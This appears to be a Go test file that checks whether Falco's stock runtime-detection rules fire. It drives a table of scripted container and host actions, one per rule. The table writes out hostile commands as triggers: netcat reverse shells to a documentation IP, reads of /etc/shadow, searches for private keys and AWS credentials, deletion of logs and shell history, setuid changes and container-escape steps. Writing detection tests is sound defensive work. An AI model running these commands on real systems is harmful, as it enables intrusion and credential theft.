package rules

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/sightglass/sightglass/internal/policy"
)

// stockEnv names a folder with the rule files of Falco, which are not part of
// this project.
const stockEnv = "SIGHTGLASS_FALCO_RULES"

// deed is something that a rule has to notice.
type deed struct {
	rule   string
	places []place
	script string // of the actor; empty: the start of the container
}

var (
	anywhere     = []place{onHost, container}
	inContainer  = []place{container}
	inPrivileged = []place{privileged}
	outside      = []place{onHost}
)

// stockDeeds has every rule of the stable and the incubating file.
var stockDeeds = []deed{
	// falco_rules.yaml
	{"Directory traversal monitored file read", anywhere, "read /etc/../etc/../etc/shadow"},
	{"Directory traversal monitored file read", anywhere, "try-read /etc/../etc/../etc/nothing"},
	{"Read sensitive file trusted after startup", anywhere, "as httpd | pause 5100ms | read /etc/shadow"},
	{"Read sensitive file untrusted", anywhere, "read /etc/shadow"},
	{"Run shell untrusted", anywhere, "as httpd | run sh -c true"},
	{"System user interactive", anywhere, "as sshd | uid 65534 | run busybox true"},
	{"Terminal shell in container", inContainer, "as containerd-shim | tty | run sh -c true"},
	{"Contact K8S API Server From Container", inContainer, "connect tcp 203.0.113.96:443"},
	{"Netcat Remote Code Execution in Container", inContainer, "as nc -e /bin/sh 203.0.113.7 4444"},
	{"Netcat Remote Code Execution in Container", inContainer, "as ncat --sh-exec sh 203.0.113.7 4444"},
	{"Search Private Keys or Passwords", anywhere, "run find /root -name id_rsa"},
	{"Search Private Keys or Passwords", anywhere, "try grep 'BEGIN OPENSSH PRIVATE' /etc/passwd"},
	{"Clear Log Activities", anywhere, "create /var/log/syslog"},
	{"Remove Bulk Data from Disk", anywhere, "as shred -u /srv/x"},
	{"Create Symlink Over Sensitive Files", anywhere, "symlink /etc/shadow $HERE/link"},
	{"Create Hardlink Over Sensitive Files", anywhere, "link /etc/shadow /etc/shadow-$NAME"},
	{"Packet socket created in container", inContainer, "packet"},
	{"Redirect STDOUT/STDIN to Network Connection in Container", inContainer, "redirect"},
	{"Redirect STDOUT/STDIN to Network Connection in Container", inContainer, "bind-shell"},
	{"Linux Kernel Module Injection Detected", inPrivileged, "module"},
	{"Debugfs Launched in Privileged Container", inPrivileged, "as debugfs -V"},
	{"Detect release_agent File Container Escapes", inPrivileged, "create $HERE/release_agent"},
	{"PTRACE attached to process", anywhere, "trace"},
	{"PTRACE anti-debug attempt", anywhere, "traceme"},
	{"Find AWS Credentials", anywhere, "run find /root -iname .aws/credentials"},
	{"Find AWS Credentials", anywhere, "try grep aws_secret_access_key /etc/passwd"},
	{"Execution from /dev/shm", anywhere, "as /dev/shm/$NAME"},
	{"Execution from /dev/shm", anywhere, "cd /dev/shm | argv0 ./true | run busybox true"},
	{"Execution from /dev/shm", anywhere, "try sh -c /dev/shm/$NAME.sh"},
	{"Drop and execute new binary in container", inContainer, "copy /bin/busybox $HERE/true | run $HERE/true"},
	{"Disallowed SSH Connection Non Standard Port", anywhere, "as ssh | connect tcp 203.0.113.7:443"},
	{"Fileless execution via memfd_create", anywhere, "memfd program"},

	// falco-incubating_rules.yaml
	{"Modify Shell Configuration File", anywhere, "append /root/.bashrc"},
	{"Schedule Cron Jobs", anywhere, "create /etc/cron.d/job"},
	{"Schedule Cron Jobs", anywhere, "as crontab -l"},
	{"Read ssh information", anywhere, "create /root/.ssh/known_hosts | read /root/.ssh/known_hosts"},
	{"Read ssh information", anywhere, "mkdir /root/.ssh | list /root/.ssh"},
	{"DB program spawned process", anywhere, "as mysqld | run busybox true"},
	{"Change thread namespace", anywhere, "setns /proc/self/ns/uts"},
	{"Change namespace privileges via unshare", inContainer, "unshare user"},
	{"Change namespace privileges via unshare", inContainer, "unshare"},
	{"Launch Privileged Container", inPrivileged, ""},
	{"Launch Excessively Capable Container", inPrivileged, ""},
	{"System procs network activity", anywhere, "as sha1sum | connect tcp 203.0.113.7:80"},
	{"System procs network activity", anywhere, "as sha1sum | serve 192.0.2.1:8080"},
	{"Program run with disallowed http proxy env", anywhere, "env HTTP_PROXY=http://192.0.2.9 | as curl"},
	{"Unexpected UDP Traffic", anywhere, "connect udp 203.0.113.7:9999"},
	{"Non sudo setuid", anywhere, "uid 65534 | setuid 1000"},
	{"Non sudo setuid", anywhere, "setuid 1000"},
	{"User mgmt binaries", outside, "as vipw"},
	{"Create files below dev", anywhere, "create /dev/$NAME | remove /dev/$NAME"},
	{"Create files below dev", anywhere, "creat /dev/$NAME | remove /dev/$NAME"},
	{"Contact EC2 Instance Metadata Service From Container", inContainer, "connect tcp 169.254.169.254:80"},
	{"Contact EC2 Instance Metadata Service From Container", inContainer, "send 169.254.169.254:80"},
	{"Contact cloud metadata service from container", inContainer, "connect tcp 169.254.169.254:80"},
	{"Contact cloud metadata service from container", inContainer, "sendmsg 169.254.169.254:80"},
	{"Launch Package Management Process in Container", inContainer, "as apk update"},
	{"Launch Suspicious Network Tool in Container", inContainer, "as nmap 192.0.2.1"},
	{"Launch Suspicious Network Tool on Host", outside, "as nmap 192.0.2.1"},
	{"Delete or rename shell history", anywhere, "create /root/.zsh_history | remove /root/.zsh_history"},
	{"Delete or rename shell history", anywhere, "append /root/.ash_history | rename /root/.ash_history /root/x"},
	{"Delete or rename shell history", anywhere, "create $HERE/ash_history | remove $HERE/ash_history"},
	{"Delete or rename shell history", anywhere, "append /root/.bash_history | truncate /root/.bash_history"},
	{"Set Setuid or Setgid bit", anywhere, "create $HERE/x | chmod 4755 $HERE/x"},
	{"Set Setuid or Setgid bit", anywhere, "create $HERE/x | fchmod 2755 $HERE/x"},
	{"Launch Remote File Copy Tools in Container", inContainer, "as scp"},
	{"Network Connection outside Local Subnet", inContainer, "connect tcp 203.0.113.7:80"},
	{"Mount Launched in Privileged Container", inPrivileged, "as mount /dev/sda /mnt"},
	{"Launch Ingress Remote File Copy Tools in Container", inContainer, "as wget http://192.0.2.9"},
	{"Launch Ingress Remote File Copy Tools in Container", inContainer, "as curl -s -o x http://192.0.2.9"},
	{"Read environment variable from /proc files", inContainer, "read /proc/self/environ"},
	{"Exfiltrating Artifacts via Kubernetes Control Plane", inContainer, "create /data/x | as containerd-shim | as tar | read /data/x"},
	{"Adding ssh keys to authorized_keys", anywhere, "create /root/.ssh/authorized_keys"},
	{"Adding ssh keys to authorized_keys", anywhere, "create /home/ada/.ssh/authorized_keys"},
	{"Potential Local Privilege Escalation via Environment Variables Misuse", anywhere, "env GLIBC_TUNABLES=glibc.malloc.check=1 | run busybox true"},
	{"Potential Local Privilege Escalation via Environment Variables Misuse", anywhere, "env GLIBC_TUNABLES=glibc.malloc.check=1 | run busybox env -i busybox true"},
	{"Backdoored library loaded into SSHD (CVE-2024-3094)", anywhere, "create $HERE/liblzma.so.5.6.0 | as sshd | read $HERE/liblzma.so.5.6.0"},
	{"BPF Program Not Profiled", anywhere, "bpf"},
}

// site is what the stock rules leave to the site: the namespaces that a rule
// holds for.
const site = `
- list: namespace_scope_network_only_subnet
  items: [default]
  override: {items: append}
`

// TestStockRules: Falco's rules, unmodified, fire on what they describe.
func TestStockRules(t *testing.T) {
	dir := os.Getenv(stockEnv)
	if dir == "" {
		t.Skipf("%s is not set: it names a folder with falco_rules.yaml and falco-incubating_rules.yaml, perhaps "+experimentalFile, stockEnv)
	}
	files := []string{filepath.Join(dir, "falco_rules.yaml"), filepath.Join(dir, "falco-incubating_rules.yaml")}
	deeds, additions := stockDeeds, site
	if file, local := experimentalRules(dir); file != "" {
		files, deeds, additions = append(files, file), slices.Concat(deeds, experimentalDeeds), additions+local
	}
	requireEveryRule(t, files, deeds, nil)
	local := filepath.Join(t.TempDir(), "site.yaml")
	require.NoError(t, os.WriteFile(local, []byte(additions), 0o600))
	binary := withHosts(t, agentBinary(t), "203.0.113.96 kubernetes.default.svc.cluster.local\n"+minerPool+" "+minerPoolNames)
	w := watch(t, binary, append(files, local)...)
	w.play(t, newTheater(t), deeds)
}

// withHosts is the program in a mount namespace in which /etc/hosts has more
// lines: names of servers that are out of reach.
func withHosts(t *testing.T, binary, lines string) string {
	t.Helper()
	dir := t.TempDir()
	hosts, err := os.ReadFile("/etc/hosts")
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(dir+"/hosts", fmt.Appendln(hosts, lines), 0o600))
	script := fmt.Sprintf("#!/bin/sh\nexec unshare --mount sh -c 'mount --bind %s/hosts /etc/hosts && exec %s \"$@\"' sh \"$@\"\n", dir, binary)
	require.NoError(t, os.WriteFile(dir+"/agent", []byte(script), 0o700))
	return dir + "/agent"
}

// requireEveryRule: a table has a deed for each rule of the files but those that
// are left out with a reason, and for no other.
func requireEveryRule(t *testing.T, files []string, deeds []deed, leftOut map[string]string) {
	t.Helper()
	var in []policy.File
	for _, file := range files {
		content, err := os.ReadFile(file)
		require.NoError(t, err)
		in = append(in, policy.File{Name: file, Content: content})
	}
	set, result := policy.Load(in, nil)
	require.NoError(t, result.Err())
	var want, have []string
	for _, r := range set.Rules() {
		want = append(want, r.Name)
	}
	for _, d := range deeds {
		have = append(have, d.rule)
	}
	for rule := range leftOut {
		have = append(have, rule)
	}
	slices.Sort(want)
	slices.Sort(have)
	require.Equal(t, want, slices.Compact(have))
}

// play performs all deeds and then waits for the detections of each.
func (w *watcher) play(t *testing.T, th *theater, deeds []deed) {
	t.Helper()
	name := func(i int, p place) string { return fmt.Sprintf("act-%d-%.4s", i, p) }
	var playing sync.WaitGroup
	for _, s := range th.stages {
		playing.Go(func() {
			for i, d := range deeds {
				if d.script != "" && slices.Contains(d.places, s.place) {
					s.perform(t, name(i, s.place), d.script)
				}
			}
		})
	}
	playing.Wait()
	deadline := time.Now().Add(patience)
	for i, d := range deeds {
		for _, p := range d.places {
			t.Run(fmt.Sprintf("%s/%s/%d", d.rule, p, i), func(t *testing.T) {
				fired := func() []string { return rulesOf(w.of(name(i, p))) }
				if d.script == "" {
					fired = func() []string { return rulesOf(w.in(p.String())) }
				}
				for !slices.Contains(fired(), d.rule) && time.Now().Before(deadline) {
					time.Sleep(pollInterval)
				}
				if !slices.Contains(fired(), d.rule) {
					t.Errorf("on the %s, %q must fire it; fired: %s", p, d.script, strings.Join(fired(), ", "))
				}
			})
		}
	}
}
